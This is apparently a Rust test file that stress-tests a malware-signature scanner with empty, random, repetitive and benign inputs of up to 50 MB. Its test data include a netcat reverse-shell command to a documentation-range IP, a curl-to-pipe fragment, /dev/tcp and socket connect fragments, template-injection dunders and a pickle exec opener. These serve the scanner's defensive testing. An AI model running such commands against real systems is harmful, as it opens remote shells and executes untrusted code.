//! Hostile and large input: no panic, and every scan returns (bounded by the scan timeout).
//! Timings are printed, never asserted.

use std::time::Instant;
use trustscan_signatures::Signatures;

/// xorshift64*: deterministic bytes without a dependency.
fn random_bytes(len: usize, mut state: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        state ^= state >> 12;
        state ^= state << 25;
        state ^= state >> 27;
        out.extend_from_slice(&state.wrapping_mul(0x2545_F491_4F6C_DD1D).to_le_bytes());
    }
    out.truncate(len);
    out
}

fn timed_scan(s: &Signatures, name: &str, data: &[u8]) -> Result<usize, String> {
    let t = Instant::now();
    let r = s.try_scan(data).map(|m| m.len());
    let secs = t.elapsed().as_secs_f64();
    eprintln!(
        "{name}: {} bytes in {secs:.3} s ({:.1} MB/s): {r:?}",
        data.len(),
        data.len() as f64 / 1e6 / secs.max(1e-9)
    );
    r
}

#[test]
fn empty_input() {
    let s = Signatures::bundled().unwrap();
    assert!(s.scan(b"").is_empty());
    assert!(s.scan(b"\n").is_empty());
}

#[test]
fn ten_megabytes_of_random_bytes() {
    let s = Signatures::bundled().unwrap();
    let data = random_bytes(10 << 20, 0x9E37_79B9_7F4A_7C15);
    // Random bytes contain no indicator of any rule; a timeout is acceptable, a panic is not.
    if let Ok(n) = timed_scan(&s, "random 10 MB", &data) {
        assert_eq!(n, 0);
    }
}

#[test]
fn fifty_megabytes_of_pathological_repetition() {
    let s = Signatures::bundled().unwrap();
    // Fragments that hit many atoms and loops: exec( and eval( calls, Jinja openers next to
    // dunders, fetch calls, chr() chains, base64-like text, pickle GLOBAL openers.
    let unit: &[u8] = b"exec(eval({{ x.__globals__ {% requests.get( chr(105)+chr(109)+chr(112) \
        aW1wb3J0IG9z cbuiltins\nexec\n socket .connect(( /dev/tcp/ curl http://1.2.3.4/ | \n";
    let mut data = Vec::with_capacity(50 << 20);
    while data.len() < 50 << 20 {
        data.extend_from_slice(unit);
    }
    let r = timed_scan(&s, "pathological 50 MB", &data);
    if let Ok(n) = r {
        assert!(n > 0);
    }
    // The thread's scanner is reused after a long (possibly timed-out) scan.
    let m = s.scan(b"nc -e /bin/sh 198.51.100.23 9001");
    assert_eq!(m.len(), 1, "{m:?}");
    assert!(s.scan(b"print('hello')").is_empty());
}

#[test]
fn fifty_megabytes_of_text_without_indicators() {
    let s = Signatures::bundled().unwrap();
    let line: &[u8] =
        b"    hidden_states = self.dropout(self.dense(hidden_states))  # model.eval()\n";
    let mut data = Vec::with_capacity(50 << 20);
    while data.len() < 50 << 20 {
        data.extend_from_slice(line);
    }
    // Unoptimised (debug) builds may reach the timeout here; a finished scan finds nothing.
    if let Ok(n) = timed_scan(&s, "plain 50 MB", &data) {
        assert_eq!(n, 0);
    }
}
